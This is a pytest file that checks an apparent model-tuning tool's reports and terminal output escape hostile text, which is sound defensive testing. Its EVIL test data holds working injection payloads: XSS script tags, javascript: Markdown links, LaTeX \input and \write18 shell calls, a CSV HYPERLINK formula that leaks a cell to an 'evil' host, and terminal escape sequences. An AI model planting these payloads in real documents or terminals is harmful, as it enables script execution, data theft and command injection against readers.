"""Texts from models and studies that a browser, a spreadsheet, LaTeX, Markdown or a terminal would obey."""

from __future__ import annotations

import csv
import re
from collections.abc import Callable
from html.parser import HTMLParser
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
import yaml
from commands import run_here

from autotune.common.formatting import csv_cell, latex_text, markdown_text, printable
from autotune.errors import StudyError
from autotune.models.tasks.text_generation import TASK
from autotune.reporting.compare import compare, write_comparison
from autotune.reporting.folder import write_report
from autotune.reporting.html import page as page_module
from autotune.reporting.text.model_card import model_card
from autotune.reporting.text.terminal import plain_front
from autotune.results.load import results_of
from autotune.results.records import StudyResults
from autotune.study.progress import PlainListener

CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
EVIL = {
    "html": "<script>alert(1)<\\script><img src=x onerror=alert(1)>\"'><svg onload=alert(1)>",
    "markdown": "x](javascript:alert(1)) ![t](http:evil.png) [a][b]\n# owned\n\n[b]: javascript:x\n```\nowned\n```",
    "latex": "\\input{secret}\\write18{rm} [x] $a$ % & # _ ^ ~ { \\end{tabular}",
    "csv": '=HYPERLINK("http:evil?"&A1)',
    "terminal": "\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil\r\x08",
}


class Page(HTMLParser):
    """Elements and attributes of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name in ("href", "src", "xlink:href")]


def study(fake: Any, text: str, monkeypatch: pytest.MonkeyPatch) -> StudyResults:
    """A study whose model, metric, unit, limit, texts and errors are this text."""
    errors = [(text, text, text)]
    monkeypatch.setattr(fake, "ERRORS", errors)
    config = {
        "model": text,
        "evaluators": {"perplexity": {"dataset": text, "name": text}, text: {text: text}},
        "calibration": {"dataset": text},
    }
    limit = {"perplexity_increase": {"op": "<=", "value": 9.0, "text": text}}
    made = fake.build(trials=10, config=config, extra_metrics=(text,), failing=(9,), constraints=limit)
    made.set_user_attr(
        "metrics", {**made.user_attrs["metrics"], text: {"direction": "maximize", "unit": text, "description": text}}
    )
    made.set_user_attr("manifest", {text: text, "versions": {"openvino": text}})
    return results_of(made)


def check_csv(text: str) -> None:
    for row in csv.reader(StringIO(text)):
        for cell in row:
            assert not re.match(r"[=+@\t\r]|-(?![\d.]+(e-?\d+)?$)", cell), cell


def check_markdown(text: str) -> None:
    outside = re.sub(r"(?ms)^(`{3,})\w*\n.*?^\1$", "", text)
    allowed = r"plots/[\w.-]+|[\w.-]+\.png|https://huggingface.co/[\w./-]+"
    for link in re.findall(r"!?\[[^\]]*\]\(([^)]*)\)", outside):
        assert re.fullmatch(allowed, link), link
    assert not re.search(r"<[a-z/!]", outside)
    assert not re.search(r"(?m)^(# owned|\[b\]:|owned)", outside)


def check_latex(text: str) -> None:
    assert not re.search(r"\\(input|write)", text)
    assert text.count(r"\end{tabular}") == 1
    assert not re.search(r"(?m)^\s*\[", text)


def test_reports_are_texts(fake: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every file of a study, of a comparison, and the model card, as its reader would parse it."""
    monkeypatch.setattr("autotune.reporting.plots.style.save_figure", lambda figure, path: path)
    results = study(
        fake, " ".join(EVIL[kind] for kind in ("csv", "html", "markdown", "latex", "terminal")), monkeypatch
    )
    write_report(results, tmp_path)
    write_comparison(compare([results, results]), tmp_path)
    card = model_card(results, 0, results.records[0].settings, TASK, TASK.snippets(None))
    front_matter, _, card = card.removeprefix("---\n").partition("\n---\n")
    assert yaml.safe_load(front_matter)["library_name"] == "openvino"
    (tmp_path / "README.md").write_text(card)
    checks: dict[str, Callable[[str], None]] = {".csv": check_csv, ".md": check_markdown, ".tex": check_latex}
    checked = set()
    for path in tmp_path.iterdir():
        if path.suffix in (*checks, ".html", ".json", ".yaml"):
            text = path.read_text(encoding="utf-8")
            assert not CONTROLS.search(text), path
            checks.get(path.suffix, lambda text: None)(text)
            checked.add(path.suffix)
    assert checked == {".csv", ".md", ".tex", ".html", ".json", ".yaml"}
    page = Page((tmp_path / "report.html").read_text(encoding="utf-8"))
    template = Path(page_module.__file__).parent / "templates" / "page.html"
    assert page.tags.count("script") == template.read_text(encoding="utf-8").count("<script")
    assert "img" not in page.tags
    assert not [name for name in page.attributes if name.startswith("on")]
    assert all(link.startswith(("#", "data:,")) for link in page.links)


@pytest.mark.parametrize("kind", EVIL)
def test_a_terminal_is_not_controlled(kind: str, fake: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """The front, progress lines, and errors of the command line, which repeat names and texts."""
    text = EVIL[kind]
    stream = StringIO()
    listener = PlainListener(stream)
    listener.stage(text)
    listener.note(text)
    assert not CONTROLS.search(plain_front(study(fake, text, monkeypatch)) + stream.getvalue())

    def failing(*args: Any, **kwargs: Any) -> None:
        raise StudyError(text) if kind != "csv" else ValueError(text)

    monkeypatch.setattr("autotune.api.load_study", failing)
    done = run_here(Path(), "report", "study", cache=Path("cache"))
    assert done.returncode == 1
    assert not CONTROLS.search(done.stdout + done.stderr)


def test_harmless_texts_stay_as_they_are() -> None:
    """Names of models, settings, limits and numbers look as before."""
    for text in (
        "meta-llama/Llama-3.2-1B_x",
        "int4_asym, group size 64",
        "<= 5%",
        "a|b",
        "1e-3",
        "Füße → 字",
        "a\tb\nc",
    ):
        assert printable(text) == text
        assert markdown_text(text) == " ".join(text.splitlines())
        assert csv_cell(text) == text
    assert latex_text("50% of a_b") == r"50\% of a\_b"
    assert csv_cell(-0.5) == -0.5
    assert csv_cell("-1+2") == "'-1+2"
    assert printable("\x1b[2J") == r"\u001b[2J"
